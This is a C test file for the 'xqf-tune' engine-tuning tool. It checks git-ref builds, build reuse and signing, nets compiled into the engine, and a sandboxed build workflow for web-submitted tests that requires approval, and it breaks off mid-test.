/*
 * Tests from git (docs/programs/xqf-tune.md): xqf-tune build --ref and sprt new
 * --test-ref/--base-ref against a real PostgreSQL (XQF_TEST_DB; skipped
 * without it, or when the source tree is not a git checkout).  A
 * throwaway clone of the project gets commits on top: one without a
 * Bench: line, empty ones of the same tree with a wrong and a right Bench:
 * line, one that changes the binary, one that does not configure.  Two
 * engine builds in all (a tree built once is reused).  A set for a ref is
 * checked against the parameters of the ref's build.
 *
 * Tests of git refs made on the web: a tester's waits for an admin's
 * approval before anything of it is built (the builder only reads the
 * commits its refs name, which the approval then binds: a ref moved after
 * it is refused, nothing built); then the builder (xqf-tune build
 * --serve, no key, in a sandbox) builds one real commit (the other side's
 * tree is registered beforehand and reused), the signer (build
 * --sign-serve) signs the builds and the test starts, or fails with the
 * reason when a ref does not resolve.  A branch whose CMake reads a key,
 * reaches the network or writes outside its folder fails in the sandbox.
 */
#include <arpa/inet.h>
#include <criterion/criterion.h>
#include <errno.h>
#include <fcntl.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include "cluster_util.h"
#include "keys.h"
#include "store_builds.h"
#include "store_runs.h"
#include "store_tasks.h"
#include "store_steer.h"

static char repo[256];

/* The clone of the project with commits on top (skipped when the source tree is not a git checkout). */
static void clone_project(void)
{
    char cmd[1024];
    snprintf(cmd, sizeof cmd, "git -C '%s' rev-parse --git-dir >/dev/null 2>&1", XQF_SOURCE_DIR);
    if (system(cmd) != 0)
        cr_skip("%s is not a git checkout", XQF_SOURCE_DIR);
    snprintf(cmd, sizeof cmd, "git clone -q --local --no-hardlinks '%s' '%s' >>'%s' 2>&1", XQF_SOURCE_DIR, repo,
             cu_fx.logfile);
    cr_assert_eq(system(cmd), 0, "git clone failed (see %s)", cu_fx.logfile);
}

static void setup(void)
{
    cu_fixture_init();
    snprintf(repo, sizeof repo, "%s/repo", cu_fx.dir);
}

TestSuite(git_build, .init = setup, .fini = cu_fixture_fini_rmdir, .timeout = 400);

/* Runs a shell command in dir: stdout in out, stderr in err (both NUL-terminated). Returns the exit status. */
static int sh2(char *out, size_t size, char *err, size_t err_size, const char *cmd)
{
    char full[5120], errfile[256];
    snprintf(errfile, sizeof errfile, "%s/stderr", cu_fx.dir);
    snprintf(full, sizeof full, "cd '%s' && { %s ; } 2>'%s'", cu_fx.dir, cmd, errfile);
    FILE *p = popen(full, "r");
    cr_assert(p);
    size_t n = fread(out, 1, size - 1, p);
    out[n] = '\0';
    int st = pclose(p);
    FILE *e = fopen(errfile, "r");
    n = e ? fread(err, 1, err_size - 1, e) : 0;
    err[n] = '\0';
    if (e)
        fclose(e);
    FILE *l = fopen(cu_fx.logfile, "a");
    if (l) {
        fprintf(l, "$ %s\n%s%s", cmd, out, err);
        fclose(l);
    }
    return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static char errbuf[1 << 16];

static int sh(char *out, size_t size, const char *cmd) { return sh2(out, size, errbuf, sizeof errbuf, cmd); }

/* xqf-tune with args (a shell fragment). */
static int tune(char *out, size_t size, const char *args)
{
    char cmd[4096];
    snprintf(cmd, sizeof cmd, "'%s/xqf-tune' %s", XQF_BIN, args);
    return sh(out, size, cmd);
}

/* A commit in the clone (git commit's arguments), its hash into hash. */
static void commit(const char *args, char hash[41])
{
    char cmd[2048], out[256];
    snprintf(cmd, sizeof cmd, "git -C '%s' -c user.name=t -c user.email=t@t commit -q %s && git -C '%s' rev-parse HEAD",
             repo, args, repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s: %s", cmd, errbuf);
    snprintf(hash, 41, "%.40s", out);
}

/* The number after prefix in text, or -1. */
static int64_t number(const char *text, const char *prefix)
{
    const char *p = strstr(text, prefix);
    int64_t v;
    return p && sscanf(p + strlen(prefix), "%" SCNd64, &v) == 1 ? v : -1;
}

/* The rest of the line after prefix in text, into out; false when absent. */
static bool field(const char *text, const char *prefix, char *out, size_t size)
{
    const char *p = strstr(text, prefix);
    if (!p)
        return false;
    p += strlen(prefix);
    snprintf(out, size, "%.*s", (int)strcspn(p, "\n"), p);
    return true;
}

/* How many builds and runs the database holds. */
static void totals(int64_t *builds, int64_t *runs)
{
    StoreBuild b;
    *builds = 0;
    while (store_load_build(cu_fx.store, *builds + 1, &b) == 1)
        ++*builds;
    StoreRun *r;
    int n = store_list_runs(cu_fx.store, 1000, &r);
    cr_assert_geq(n, 0);
    free(r);
    *runs = n;
}

Test(git_build, commits_built_checked_and_tested)
{
    CU_REQUIRE_DB();
    char out[65536], cmd[2048], args[2048];
    clone_project();

    /* A: no Bench: line; built, benched, recorded with its commit, tree and subject */
    char a[41], b_[41], c[41], d[41], e[41];
    commit("--allow-empty -m 'A: a commit without a bench line'", a);
    snprintf(args, sizeof args, "build --ref %s --repo '%s' --out built --jobs 2", a, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    int64_t bench = number(out, "Bench: "), build_a = number(out, "Build: ");
    char binary[1024], sha_a[80], tree[80], expect[1024];
    cr_assert(bench > 0 && build_a > 0 && field(out, "Binary: ", binary, sizeof binary) &&
                  field(out, "SHA-256: ", sha_a, sizeof sha_a) && field(out, "Tree: ", tree, sizeof tree),
              "%s", out);
    snprintf(expect, sizeof expect, "%s/built/xqf-engine-%.12s", cu_fx.dir, a);
    cr_assert_str_eq(binary, expect);
    cr_assert_eq(access(binary, X_OK), 0);
    snprintf(cmd, sizeof cmd, "'%s' bench | grep 'Nodes searched'", binary);
    cr_assert_eq(sh(out, sizeof out, cmd), 0);
    cr_assert_eq(number(out, "Nodes searched: "), bench, "%s", out);
    StoreBuild sb;
    StoreBuildSource src;
    cr_assert_eq(store_load_build(cu_fx.store, build_a, &sb), 1);
    cr_assert_eq(sb.bench_nodes, bench);
    cr_assert_str_eq(sb.sha256, sha_a);
    cr_assert_eq(store_build_source(cu_fx.store, build_a, &src), 1);
    cr_assert_str_eq(src.commit, a);
    cr_assert_str_eq(src.tree, tree);
    cr_assert_str_eq(src.subject, "A: a commit without a bench line");
    char chunk[16], name[STORE_NAME_MAX + 1], sig[STORE_SIG_HEX + 1];
    size_t len;
    int64_t total;
    cr_assert_eq(store_build_chunk(cu_fx.store, sha_a, 0, sizeof chunk, chunk, &len, &total, name, sig), 1,
                 "the binary's bytes are stored for the workers");

    /* B: the same tree, a wrong Bench: line: refused, nothing recorded */
    int64_t builds0, runs0, builds1, runs1;
    totals(&builds0, &runs0);
    snprintf(args, sizeof args, "--allow-empty -m 'B: says another bench' -m 'Bench: %" PRId64 "'", bench + 1);
    commit(args, b_);
    snprintf(args, sizeof args, "build --ref %s --repo '%s' --out built", b_, repo);
    cr_assert_eq(tune(out, sizeof out, args), 2, "%s", out);
    cr_assert(strstr(errbuf, "Bench: ") && strstr(errbuf, "not recorded"), "%s", errbuf);

    /* C: the same tree, the right Bench: line: the build of A, reused (and now signed) */
    snprintf(args, sizeof args, "--allow-empty -m 'C: says the bench' -m 'Bench: %" PRId64 "'", bench);
    commit(args, c);
    char key[256];
    snprintf(key, sizeof key, "%s/operator.key", cu_fx.dir);
    snprintf(cmd, sizeof cmd, "'%s/xqf-keys' sign-new '%s' >/dev/null", XQF_BIN, key);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    snprintf(args, sizeof args, "build --ref %s --repo '%s' --out built --sign-key '%s'", c, repo, key);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert_eq(number(out, "Build: "), build_a, "%s", out);
    cr_assert_eq(store_load_build(cu_fx.store, build_a, &sb), 1);
    cr_assert_eq(strlen(sb.signature), SIGN_SIG_HEX, "the reused build is signed with the key given");
    totals(&builds1, &runs1);
    cr_assert_eq(builds1, builds0);

    /* D: a change of the binary (not of the search): sprt new builds D, reuses A, creates the test */
    snprintf(cmd, sizeof cmd, "echo 'const char xqf_git_test_marker[] = \"D\";' >> '%s/engine/bench.c' && "
                              "git -C '%s' add engine/bench.c", repo, repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    snprintf(args, sizeof args, "-m 'D: a marker in the binary' -m 'Bench: %" PRId64 "'", bench);
    commit(args, d);
    snprintf(args, sizeof args, "sprt new --test-ref %s --base-ref %s --repo '%s' --nodes 1000 --sign-key '%s'",
             d, a, repo, key);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    /* the run id: the line that is only a number */
    int64_t run = 0;
    for (const char *p = out; p && *p; p = strchr(p, '\n') ? strchr(p, '\n') + 1 : NULL)
        if (sscanf(p, "%" SCNd64 "\n", &run) == 1 && strspn(p, "0123456789") == strcspn(p, "\n"))
            break;
    cr_assert_gt(run, 0, "%s", out);
    StoreRun r;
    cr_assert_eq(store_load_run(cu_fx.store, run, &r, false), 1);
    cr_assert_str_eq(r.build1, sha_a, "the base plays A's build");
    cr_assert(r.build0[0] && strcmp(r.build0, sha_a) != 0, "the test plays D's build: %s", r.build0);
    snprintf(expect, sizeof expect, "%s/build-tuned/xqf-engine-%.12s", cu_fx.dir, d);
    cr_assert_eq(access(expect, X_OK), 0, "sprt new puts the binary in ./build-tuned");
    store_run_free(&r);
    snprintf(args, sizeof args, "show %" PRId64, run);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    snprintf(expect, sizeof expect, "commit %.12s D: a marker in the binary", d);
    cr_assert(strstr(out, "Test build: ") && strstr(out, expect), "show names the test's commit:\n%s", out);
    snprintf(expect, sizeof expect, "commit %.12s A: a commit without a bench line", a);
    cr_assert(strstr(out, "Base build: ") && strstr(out, expect), "%s", out);
    totals(&builds0, &runs0);

    /* a set for a ref is checked, once the ref is built (here: reused), against that build's parameters */
    snprintf(args, sizeof args, "sprt new --test-ref %s --base-ref %s --repo '%s' --nodes 1000 --test NullR=99",
             d, a, repo);
    cr_assert_eq(tune(out, sizeof out, args), 2, "%s", out);
    snprintf(expect, sizeof expect, "--test: parameter NullR needs an integer from 1 to 6 in build ");
    cr_assert(strstr(errbuf, expect), "%s", errbuf);
    snprintf(expect, sizeof expect, "(xqf-engine-%.12s), got '99'", d);
    cr_assert(strstr(errbuf, expect), "the message names D's build: %s", errbuf);
    totals(&builds1, &runs1);
    cr_assert(builds1 == builds0 && runs1 == runs0, "no test created (and no build: both reused)");

    /* E: does not configure: its log's tail, status 2, nothing recorded (build or test) */
    snprintf(cmd, sizeof cmd, "echo 'this is not cmake(' >> '%s/CMakeLists.txt'", repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0);
    commit("-a -m 'E: a broken CMakeLists.txt'", e);
    snprintf(args, sizeof args, "build --ref %s --repo '%s' --out built", e, repo);
    cr_assert_eq(tune(out, sizeof out, args), 2, "%s", out);
    cr_assert(strstr(errbuf, "the end of the build log") && strstr(errbuf, "does not build"), "%s", errbuf);
    snprintf(args, sizeof args, "sprt new --test-ref %s --base-ref %s --repo '%s' --nodes 1000", e, a, repo);
    cr_assert_eq(tune(out, sizeof out, args), 2, "%s", out);
    totals(&builds1, &runs1);
    cr_assert_eq(builds1, builds0);
    cr_assert_eq(runs1, runs0);

    /* bad input: status 2, a message naming the problem, nothing recorded */
    snprintf(args, sizeof args, "build --ref no-such-branch --repo '%s'", repo);
    cr_assert_eq(tune(out, sizeof out, args), 2);
    cr_assert(strstr(errbuf, "unknown ref 'no-such-branch'"), "%s", errbuf);
    snprintf(args, sizeof args, "build --ref HEAD --repo '%s'", cu_fx.dir);
    cr_assert_eq(tune(out, sizeof out, args), 2);
    cr_assert(strstr(errbuf, "not a git repository"), "%s", errbuf);
    snprintf(cmd, sizeof cmd, "git init -q other && echo x > other/x && git -C other add x && "
                              "git -C other -c user.name=t -c user.email=t@t commit -qm x");
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    cr_assert_eq(tune(out, sizeof out, "build --ref HEAD --repo other"), 2);
    cr_assert(strstr(errbuf, "not this project's source"), "%s", errbuf);
    snprintf(args, sizeof args, "sprt new --test-ref %s --base-ref %s --repo '%s' --nodes 1000", a, c, repo);
    cr_assert_eq(tune(out, sizeof out, args), 2);
    cr_assert(strstr(errbuf, "same source"), "%s", errbuf);
    snprintf(args, sizeof args, "sprt new --test-ref %s --test-build 1 --base-ref %s --repo '%s' --nodes 1000", a, d, repo);
    cr_assert_eq(tune(out, sizeof out, args), 2);
    totals(&builds1, &runs1);
    cr_assert_eq(builds1, builds0);
    cr_assert_eq(runs1, runs0);
}

/*
 * A ref built with a registered net compiled in (build --ref --net): the
 * net's bytes written to a folder bound read-only into the sandbox, the
 * engine's uci says UseNNUE default true, its bench with the compiled-in
 * net is this xqf-engine's bench with EvalFile=NET (the clone's search is
 * this one's), the build row names the net and show says so; built again
 * it is reused, while the tree's build without a net is another; an
 * unknown net is refused before anything is built.  A commit's Bench:
 * line (the bench with its own default net) does not bind such a build.
 */
Test(git_build, a_ref_built_with_a_net_compiled_in)
{
    CU_REQUIRE_DB();
    char out[65536], cmd[4096], args[2048], net[512], err[256];
    clone_project();
    /* HEAD says its bench with its own default net, which another net compiled in changes: not checked then */
    char head[41];
    commit("--allow-empty -m 'a search commit' -m 'Bench: 1'", head);
    snprintf(net, sizeof net, "%s/default.nnue", cu_fx.dir);
    cr_assert_eq(cu_random_net(net, 21, err, sizeof err), 0, "%s", err);
    snprintf(args, sizeof args, "net add '%s' --name built-in-net", net);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    int64_t net_id = number(out, "Net: ");
    char sha[80];
    cr_assert(net_id > 0 && field(out, "SHA-256: ", sha, sizeof sha), "%s", out);

    /* an unknown net: refused at once, nothing built or recorded */
    int64_t builds0, runs0, builds1, runs1;
    totals(&builds0, &runs0);
    snprintf(args, sizeof args, "build --ref HEAD --repo '%s' --out built --net no-such-net", repo);
    cr_assert_eq(tune(out, sizeof out, args), 2, "%s", out);
    cr_assert(strstr(errbuf, "--net: no net 'no-such-net'"), "%s", errbuf);
    snprintf(args, sizeof args, "build --ref HEAD --repo '%s' --out built --net none", repo);
    cr_assert_eq(tune(out, sizeof out, args), 2, "%s", out);
    totals(&builds1, &runs1);
    cr_assert_eq(builds1, builds0);

    snprintf(args, sizeof args, "build --ref HEAD --repo '%s' --out built --jobs 2 --net built-in-net", repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    char binary[1024], line[512], tree[80];
    int64_t bench = number(out, "Bench: "), build = number(out, "Build: ");
    cr_assert(bench > 0 && build > 0 && field(out, "Binary: ", binary, sizeof binary) &&
                  field(out, "Tree: ", tree, sizeof tree), "%s", out);
    snprintf(line, sizeof line, "Net: built-in-net (SHA-256 %s)", sha);
    cr_assert(strstr(out, line), "%s", out);
    snprintf(line, sizeof line, "Net check: bench %" PRId64 " with the compiled-in net and with EvalFile=built-in-net",
             bench);
    cr_assert(strstr(out, line), "%s", out);
    snprintf(line, sizeof line, "-net%.12s", sha);
    cr_assert(strstr(binary, line), "the binary is named after its net: %s", binary);

    /* the engine evaluates with it by default, and it is the registered net: its bench is EvalFile=NET's */
    snprintf(cmd, sizeof cmd, "echo uci | '%s' | grep UseNNUE", binary);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    cr_assert(strstr(out, "option name UseNNUE type check default true"), "%s", out);
    snprintf(cmd, sizeof cmd, "'%s' bench | grep -E 'Nodes searched|Evaluation'", binary);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    cr_assert_eq(number(out, "Nodes searched: "), bench, "%s", out);
    cr_assert(strstr(out, "Evaluation: net"), "%s", out);
    snprintf(cmd, sizeof cmd, "'%s/xqf-engine' bench EvalFile='%s' | grep 'Nodes searched'", XQF_BIN, net);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    cr_assert_eq(number(out, "Nodes searched: "), bench, "this engine with the net file: %s", out);
    snprintf(cmd, sizeof cmd, "'%s/xqf-engine' bench | grep 'Nodes searched'", XQF_BIN);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    cr_assert_neq(number(out, "Nodes searched: "), bench, "the hand-crafted bench is another");
    const char *fens = "rnbakabnr/9/1c5c1/p1p1p1p1p/9/9/P1P1P1P1P/1C5C1/9/RNBAKABNR w - - 0 1\n"
                       "3k5/9/9/9/9/9/9/9/4R4/4K4 b - - 0 1\n";
    char mine[1024], theirs[1024];
    snprintf(cmd, sizeof cmd, "printf '%s' | '%s' evalnet '%s'", fens, binary, net);
    cr_assert_eq(sh(mine, sizeof mine, cmd), 0, "%s", errbuf);
    snprintf(cmd, sizeof cmd, "printf '%s' | '%s/xqf-engine' evalnet '%s'", fens, XQF_BIN, net);
    cr_assert_eq(sh(theirs, sizeof theirs, cmd), 0, "%s", errbuf);
    cr_assert_str_eq(mine, theirs);

    /* the row names the net; show says so */
    StoreBuild sb;
    cr_assert_eq(store_load_build(cu_fx.store, build, &sb), 1);
    cr_assert_eq(sb.net_id, net_id);
    cr_assert_str_eq(sb.net_name, "built-in-net");
    cr_assert_str_eq(sb.net_sha256, sha);
    snprintf(args, sizeof args, "build --binary '%s/xqf-engine' --name plain", XQF_BIN);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    int64_t plain = number(out, "Build: ");
    snprintf(args, sizeof args, "sprt new --test-build %" PRId64 " --base-build %" PRId64 " --nodes 500", build, plain);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    snprintf(args, sizeof args, "show %" PRId64, (int64_t)atoll(out));
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    snprintf(line, sizeof line, ", net built-in-net (SHA-256 %.16s) compiled in", sha);
    cr_assert(strstr(out, "Test build: ") && strstr(out, line), "show names the net:\n%s", out);

    /* again: the build of that tree with that net, reused; without the net the tree has none yet */
    snprintf(args, sizeof args, "build --ref HEAD --repo '%s' --out built --net %" PRId64, repo, net_id);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert_eq(number(out, "Build: "), build, "%s", out);
    cr_assert(strstr(errbuf, "its tree was built already"), "%s", errbuf);
    int64_t other;
    cr_assert_eq(store_build_of_tree(cu_fx.store, tree, 0, &other), 0, "a build without a net is another build");
    cr_assert_eq(store_build_of_tree(cu_fx.store, tree, net_id, &other), 1);
    cr_assert_eq(other, build);
}

/*
 * A test of two refs as the web makes it (the test side playing test_set):
 * created (pending for a tester), then waiting for its builds.
 */
static int64_t waiting_test(const char *owner, bool pending, const char *test_ref, const char *base_ref,
                            const char *test_set)
{
    cr_assert_eq(store_begin(cu_fx.store), 0);
    int64_t run = cu_sprt_of(cu_fx.store, owner, pending, test_set, 4, 100, 500, 0, 5);
    cr_assert_gt(run, 0);
    cr_assert_eq(store_await_builds(cu_fx.store, run, test_ref, base_ref), 0);
    cr_assert_eq(store_commit(cu_fx.store), 0);
    return run;
}

/* Whether a worker asking for a task of run gets one. */
static bool gets_task(int64_t run, int64_t worker)
{
    StoreLease lease;
    bool given = false;
    cr_assert_geq(store_claim_batch(cu_fx.store, run, &worker, 1, 60000, &lease, &given), 0);
    return given;
}

/* The run's requests (test first) into q, asserting there are n. */
static void requests(int64_t run, int n, StoreBuildRequest **q)
{
    cr_assert_eq(store_build_requests(cu_fx.store, run, q), n, "run %" PRId64, run);
}

Test(git_build, web_tests_wait_for_the_builder)
{
    CU_REQUIRE_DB();
    char out[65536], cmd[2048], args[2048], a[41], b_[41], tree[STORE_NAME_MAX + 1];
    clone_project();
    /* A: the base; its tree registered beforehand (the engine of this build tree): reused, not compiled */
    commit("--allow-empty -m 'A: the base'", a);
    snprintf(cmd, sizeof cmd, "git -C '%s' rev-parse %s^{tree}", repo, a);
    cr_assert_eq(sh(tree, sizeof tree, cmd), 0);
    tree[strcspn(tree, "\n")] = '\0';
    snprintf(args, sizeof args, "build --binary '%s/xqf-engine' --name base-a", XQF_BIN);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    int64_t build_a = number(out, "Build: ");
    cr_assert_gt(build_a, 0);
    StoreBuildSource src = { .subject = "A: the base" };
    snprintf(src.commit, sizeof src.commit, "%s", a);
    snprintf(src.tree, sizeof src.tree, "%s", tree);
    cr_assert_eq(store_set_build_source(cu_fx.store, build_a, &src), 0);
    /* B: a change of the binary: the one real build */
    snprintf(cmd, sizeof cmd, "echo 'const char xqf_git_test_marker[] = \"B\";' >> '%s/engine/bench.c' && "
                              "git -C '%s' add engine/bench.c", repo, repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    commit("-m 'B: a marker in the binary'", b_);

    /* a tester's test of B against A, an admin's of a ref that does not resolve: both wait, no tasks */
    int64_t good = waiting_test("tess", true, b_, a, "NullR=2"), bad = waiting_test("ada", false, "no-such-branch", a, "");
    StoreRun r;
    cr_assert_eq(store_load_run(cu_fx.store, good, &r, false), 1);
    cr_assert_str_eq(r.state, "pending", "a tester's test waits for approval before it is built");
    cr_assert_eq(store_load_run(cu_fx.store, bad, &r, false), 1);
    cr_assert_str_eq(r.state, "building", "an admin's is built at once");
    StoreBuildRequest *q = NULL;
    requests(good, 2, &q);
    cr_assert_str_eq(q[0].side, "test");
    cr_assert_str_eq(q[0].ref, b_);
    cr_assert_str_eq(q[0].state, "queued");
    cr_assert_str_eq(q[1].side, "base");
    free(q);
    int64_t worker;
    cr_assert_eq(store_hello(cu_fx.store, "w1", "b", 2, 2, "", &worker), 1);
    cr_assert(!gets_task(good, worker), "a run waiting for builds gives no task");
    cr_assert(!gets_task(bad, worker));
    StoreRun *active = NULL;
    int n = store_active_runs(cu_fx.store, &active);
    cr_assert_eq(n, 0, "the coordinator serves no building run");
    free(active);

    /* the builder holds no key */
    char key[256];
    snprintf(key, sizeof key, "%s/operator.key", cu_fx.dir);
    snprintf(cmd, sizeof cmd, "'%s/xqf-keys' sign-new '%s' >/dev/null", XQF_BIN, key);
    cr_assert_eq(system(cmd), 0);
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built --sign-key '%s'", cu_fx.db_builder, repo, key);
    cr_assert_eq(tune(out, sizeof out, args), 2);
    cr_assert(strstr(errbuf, "the builder holds no key"), "%s", errbuf);

    /*
     * the builder, one pass: the admin's test fails (its ref does not
     * resolve), the tester's refs are read (their commits pinned) and
     * nothing of it is built before approval
     */
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built --jobs 2", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert(strstr(out, "no-such-branch does not resolve; the run is failed") && !strstr(out, "building the"),
              "%s", out);
    requests(good, 2, &q);
    cr_assert(strcmp(q[0].state, "queued") == 0 && strcmp(q[1].state, "queued") == 0, "nothing built before approval");
    cr_assert_str_eq(q[0].commit, b_);
    cr_assert_str_eq(q[0].subject, "B: a marker in the binary");
    cr_assert_str_eq(q[1].commit, a);
    free(q);

    /* approved (the commits shown): B compiled (in the sandbox), A reused, both unsigned; waits for the signer */
    cr_assert_eq(store_approve_run(cu_fx.store, good, a, b_), 0, "the sides' commits swapped: refused");
    cr_assert_eq(store_approve_run(cu_fx.store, good, b_, a), 1);
    cr_assert_eq(store_load_run(cu_fx.store, good, &r, false), 1);
    cr_assert_str_eq(r.state, "building");
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert(strstr(out, "the run is building"), "built, not signed: %s", out);
    cr_assert(strstr(errbuf, "in a sandbox"), "%s", errbuf);
    cr_assert(!gets_task(good, worker), "an unsigned build is not played");
    snprintf(args, sizeof args, "build --sign-serve --db '%s' --sign-key '%s'", cu_fx.db_signer, key);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert(strstr(out, "signed build") && strstr(out, "1 test started"), "%s", out);
    requests(good, 2, &q);
    cr_assert_str_eq(q[0].state, "done");
    cr_assert_str_eq(q[1].state, "done");
    cr_assert_eq(q[1].build_id, build_a, "A's tree was built before: reused");
    int64_t build_b = q[0].build_id;
    cr_assert(build_b > 0 && build_b != build_a);
    free(q);
    cr_assert_eq(store_load_run(cu_fx.store, good, &r, false), 1);
    cr_assert_str_eq(r.state, "active", "approved, built and signed: it plays");
    StoreBuild signed_b;
    cr_assert_eq(store_load_build(cu_fx.store, build_b, &signed_b), 1);
    cr_assert_eq(strlen(signed_b.signature), SIGN_SIG_HEX, "the signer signed B");
    int64_t test_build, base_build;
    cr_assert_eq(store_run_builds(cu_fx.store, good, &test_build, &base_build), 1);
    cr_assert_eq(test_build, build_b);
    cr_assert_eq(base_build, build_a);
    StoreBuildSource got;
    cr_assert_eq(store_build_source(cu_fx.store, build_b, &got), 1);
    cr_assert_str_eq(got.commit, b_);

    cr_assert_eq(store_load_run(cu_fx.store, bad, &r, false), 1);
    cr_assert_str_eq(r.state, "failed");
    cr_assert_str_eq(r.verdict, "build of test ref no-such-branch failed");
    requests(bad, 2, &q);
    cr_assert_str_eq(q[0].state, "failed");
    cr_assert(strstr(q[0].error, "unknown ref 'no-such-branch'"), "%s", q[0].error);
    cr_assert_str_eq(q[1].state, "failed");
    cr_assert(strstr(q[1].error, "not built: the test side failed"), "%s", q[1].error);
    free(q);
    cr_assert(!gets_task(bad, worker));
    snprintf(args, sizeof args, "show %" PRId64, bad);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    cr_assert(strstr(out, "failed: build of test ref no-such-branch failed") &&
                  strstr(out, "Test ref: no-such-branch, failed") && strstr(out, "unknown ref 'no-such-branch'"),
              "show gives the reason:\n%s", out);

    /*
     * a set the build of its ref does not know (the form checked its syntax
     * only): the builder refuses it by the build's name once it is built
     * (here: reused), and the test fails with the reason, as for a failed build
     */
    int64_t unknown = waiting_test("ada", false, b_, a, "NullR=2,NoSuchParam=1");
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    cr_assert(strstr(out, "the run is failed"), "%s", out);
    cr_assert_eq(store_load_run(cu_fx.store, unknown, &r, false), 1);
    cr_assert_str_eq(r.state, "failed");
    requests(unknown, 2, &q);
    char expect[256];
    snprintf(expect, sizeof expect, "the test set: unknown parameter 'NoSuchParam' in build %" PRId64 " (xqf-engine-",
             build_b);
    cr_assert(strcmp(q[0].state, "failed") == 0 && strstr(q[0].error, expect), "%s: %s", q[0].state, q[0].error);
    cr_assert(strstr(q[1].error, "not built: the test side failed"), "%s", q[1].error);
    free(q);
    cr_assert(!gets_task(unknown, worker));
    snprintf(args, sizeof args, "show %" PRId64, unknown);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    cr_assert(strstr(out, "unknown parameter 'NoSuchParam' in build"), "show gives the reason:\n%s", out);

    /* nothing left: another pass builds nothing; a request not being built is not recorded */
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    cr_assert(!strstr(out, "building the"), "%s", out);
    StoreBuildRequest none;
    cr_assert_eq(store_build_claim(cu_fx.store, "test:1", 3600, &none), 0);
    char state[16];
    cr_assert_eq(store_build_done(cu_fx.store, 1, build_a, NULL, state, sizeof state), 0, "a request not being built");
    /* xqf-tune stop ends a run that has not ended, not one that has */
    snprintf(args, sizeof args, "stop %" PRId64, good);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s", errbuf);
    cr_assert_eq(store_load_run(cu_fx.store, good, &r, false), 1);
    cr_assert_str_eq(r.state, "stopped");
    cr_assert_eq(tune(out, sizeof out, args), 2, "a refusal, as every verb's");
    cr_assert(strstr(errbuf, "has ended (stopped)"), "%s", errbuf);
}

/*
 * An approval binds the commit a ref named when the test was made, not the
 * ref: a tester has a harmless commit of a branch approved, then moves the
 * branch (a force-push: the commit amended, the branch moved to it); the
 * builder reads the ref again before it builds, refuses it (nothing
 * compiled) and the test ends failed, its verdict and its request naming
 * both commits.  A test whose ref does not resolve when it is made is
 * refused before any approval.
 */
Test(git_build, an_approval_binds_the_commit_not_the_ref)
{
    CU_REQUIRE_DB();
    char out[65536], cmd[2048], args[2048], base[41], harmless[41], harmful[41], expect[512];
    clone_project();
    snprintf(cmd, sizeof cmd, "git -C '%s' rev-parse HEAD", repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    snprintf(base, sizeof base, "%.40s", out);
    snprintf(cmd, sizeof cmd, "git -C '%s' checkout -q -b topic", repo);
    cr_assert_eq(sh(out, sizeof out, cmd), 0, "%s", errbuf);
    commit("--allow-empty -m 'harmless: a comment'", harmless);
    int64_t run = waiting_test("tess", true, "topic", base, "");
    int64_t unknown = waiting_test("tess", true, "no-such-ref", base, "");

    /* made: the builder reads both refs' commits, builds nothing; the unknown ref's test is refused */
    snprintf(args, sizeof args, "build --serve --db '%s' --repo '%s' --out built", cu_fx.db_builder, repo);
    cr_assert_eq(tune(out, sizeof out, args), 0, "%s\n%s", out, errbuf);
    snprintf(expect, sizeof expect, "the test ref topic is commit %s; the run is pending", harmless);
    cr_assert(strstr(out, expect) && !strstr(out, "building the"), "%s", out);
    StoreRun r;
    cr_assert_eq(store_load_run(cu_fx.store, unknown, &r, false), 1);
    cr_assert_str_eq(r.state, "failed", "a ref that does not resolve is refused before any approval");
    cr_assert_str_eq(r.verdict, "build of test ref no-such-ref failed");
    StoreBuildRequest *q = NULL;
    requests(unknown, 2, &q);
